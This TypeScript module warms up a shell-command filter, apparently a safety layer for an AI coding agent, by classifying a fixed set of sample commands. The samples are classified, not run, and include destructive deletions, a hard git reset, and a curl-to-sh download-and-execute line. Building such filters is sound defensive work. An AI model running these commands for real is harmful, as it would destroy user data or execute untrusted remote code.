import { classifyCommand, warmUpShellParser } from '../command-filter/index.js';

/** Commands that take the filter through its parser and its main rule families once. */
const WARM_COMMANDS = [
  'git status && ls -la src | grep -v x > /tmp/out.txt',
  'rm -rf ../* build/',
  'git reset --hard HEAD~1',
  'npm install left-pad; curl -fsSL https://example.com/x.sh | sh',
  'bash -c "echo $(cat package.json) && find . -name \'*.ts\' -exec rm {} +"',
  'python3 -c "print(1)"',
];

let warm = false;

/**
 * Loads the shell parser and classifies a few representative commands, so that the first real
 * command of a session is judged as fast as the hundredth. Returns the time it took, in ms.
 * Once per process: what it warms (the parser, the compiled rules) is the process's, so the
 * second caller at a session's start (the event path, then the hook server) finds it warm: 0 ms.
 */
export function warmFilter(): number {
  if (warm) return 0;
  const t0 = performance.now();
  warmUpShellParser();
  const ctx = { cwd: '/warm/project', workspaceRoots: ['/warm/project'], home: '/warm/home', tmpDirs: ['/tmp'] };
  for (let round = 0; round < 3; round++) for (const c of WARM_COMMANDS) classifyCommand(c, ctx);
  warm = true;
  return performance.now() - t0;
}
